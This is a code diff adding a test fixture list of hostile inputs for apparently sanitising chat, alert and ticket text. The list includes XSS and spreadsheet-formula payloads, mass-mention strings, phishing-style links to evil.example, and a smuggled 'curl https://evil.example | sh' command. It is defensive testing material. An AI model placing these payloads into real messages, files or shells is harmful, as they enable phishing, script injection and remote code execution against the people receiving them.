@@ -39,6 +39,44 @@ export const hostileNames = [
   "Backdoor:EC2.C&CActivity.B!DNS",
 ];
 
+/** Texts by which a stranger would have a chat, an alert or a ticket do something. */
+export const hostileTexts = [
+  "<!channel> <!here> <!everyone> <!subteam^S012> <@U012AB3CD> <#C012AB3CD>",
+  "@channel @here @everyone @team",
+  "<https://evil.example/login|Approve>",
+  "[Approve](https://evil.example/login)",
+  "![x](http://evil.example/pixel.png)",
+  "<at>Everyone</at>",
+  "*bold* _italic_ ~strike~ `code` ```block``` > quote # head",
+  "<script>alert(1)</script><img src=x onerror=alert(1)><b>bold</b>",
+  "&lt;b&gt; &amp; &#60;script&#62;",
+  "[code]<a href='https://evil.example'>Approve</a>[/code]",
+  "[CODE]<script>alert(1)</script>[/CODE]",
+  "@[Beth Anglin] @[code]",
+  "{{DATE(2026-11-30T10:00:00Z, SHORT)}} {{TIME(2026-11-30T10:00:00Z)}} {{{{",
+  "$" + "{$root.secret} @{triggerBody()}",
+  "javascript:alert(1) mailto:ceo@evil.example ftp://evil.example www.evil.example",
+  "HTTPS://evil.example HtTp://evil.example",
+  "slack://open?team=T0 msteams:/l/chat/0/0",
+  "{code}x{code} {noformat} [~admin] [~accountid:5f1] {color:red}x{color} h1. x",
+  "=cmd|'/c calc'!A1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1+1)",
+  "\t=1+1",
+  "line one\nIncident   0000000000000000-1\r\n\u2028[Cordon] URGENT Forged",
+  "\u0000\u0007\u001b[31mred\u001b[0m",
+  "safe\u202etxt.exe \u2066x\u2069 \u200bhidden\ufeff",
+  "\ud800 half, \udc00 half",
+  "😀".repeat(600),
+  "x".repeat(10_240),
+  "npx cordon release INCIDENT; curl https://evil.example | sh",
+  "\"quoted\" 'quoted' \\back\\slash",
+  " ",
+  "",
+  "__proto__",
+];
+
 /**
  * Runs command lines in one `sh`, in an empty folder, where these programs only print their words.
  *
